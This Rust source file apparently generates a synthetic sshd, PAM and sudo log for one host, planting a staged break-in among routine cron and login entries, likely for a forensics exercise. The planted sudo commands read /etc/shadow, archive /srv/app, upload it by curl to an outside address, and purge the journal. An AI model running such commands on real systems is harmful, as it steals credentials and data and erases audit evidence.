//! Who was on one of the hosts of the syslog that day: logins, cron and sudo, as sshd, PAM and sudo log them.

use super::{Dice, clock};
use anyhow::Result;
use std::fmt::Write;

/// Lines with their second of the day.
#[derive(Default)]
struct Log(Vec<(u64, String)>);

impl Log {
    /// A login by ssh, and its end where there is one.
    fn visit(&mut self, (start, end): (u64, Option<u64>), process: u64, account: &str, method: &str, (address, port): (&str, u64)) {
        self.0.push((start, format!("sshd[{process}]: Accepted {method} for {account} from {address} port {port} ssh2")));
        self.0.push((start, format!("sshd[{process}]: pam_unix(sshd:session): session opened for user {account}(uid=1000) by (uid=0)")));
        if let Some(end) = end {
            self.0.push((end, format!("sshd[{process}]: pam_unix(sshd:session): session closed for user {account}")));
        }
    }

    /// A command by sudo, in a session of its own.
    fn sudo(&mut self, second: u64, account: &str, tty: &str, command: &str) {
        self.0.push((second, format!("sudo:   {account} : TTY={tty} ; PWD=/home/{account} ; USER=root ; COMMAND={command}")));
        self.0.push((second, format!("sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {account}(uid=1000)")));
        self.0.push((second + 1, "sudo: pam_unix(sudo:session): session closed for user root".to_owned()));
    }
}

/// The log. A password that was guessed opens a session that nobody closed; what is run as root in it steals, and clears the logs.
pub(super) fn auth() -> Result<String> {
    let mut dice = Dice(4624);
    let mut log = Log::default();
    for hour in 0..10 {
        let (second, process) = (3600 * hour + 1_020, 10_000 + dice.roll(9_000));
        log.0.push((second, format!("CRON[{process}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")));
        log.0.push((second + 2, format!("CRON[{process}]: pam_unix(cron:session): session closed for user root")));
    }
    for _ in 0..16 {
        let (start, length) = (dice.roll(28_000), 300 + dice.roll(5_400));
        let (process, address, port) = (2_000 + dice.roll(6_000), format!("192.0.2.{}", 10 + dice.roll(9)), 30_000 + dice.roll(30_000));
        let account = dice.pick(&["deploy", "deploy", "alice"]);
        log.visit((start, Some(start + length)), process, account, "publickey", (&address, port));
        if account == "alice" {
            log.sudo(start + 60, account, "pts/0", "/usr/bin/apt-get update");
            log.sudo(start + 140, account, "pts/0", "/usr/bin/systemctl restart nginx");
        }
    }
    log.visit((10_000, None), 8_180, "deploy", "password", ("203.0.113.66", 41_022));
    let refused = "3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/id";
    log.0.push((10_090, format!("sudo:   deploy : {refused}")));
    for (second, command) in [
        (10_150, "/usr/bin/cat /etc/shadow"),
        (10_480, "/usr/bin/tar czf /tmp/.cache/d.tgz /srv/app"),
        (10_620, "/usr/bin/curl -s -T /tmp/.cache/d.tgz http://203.0.113.66:8443/u"),
        (10_700, "/usr/bin/journalctl --vacuum-time=1s"),
    ] {
        log.sudo(second, "deploy", "pts/1", command);
    }
    log.0.sort_by_key(|(second, _)| *second);
    let mut text = String::new();
    for (second, line) in log.0 {
        writeln!(text, "{} web-02 {line}", clock(second))?;
    }
    Ok(text)
}
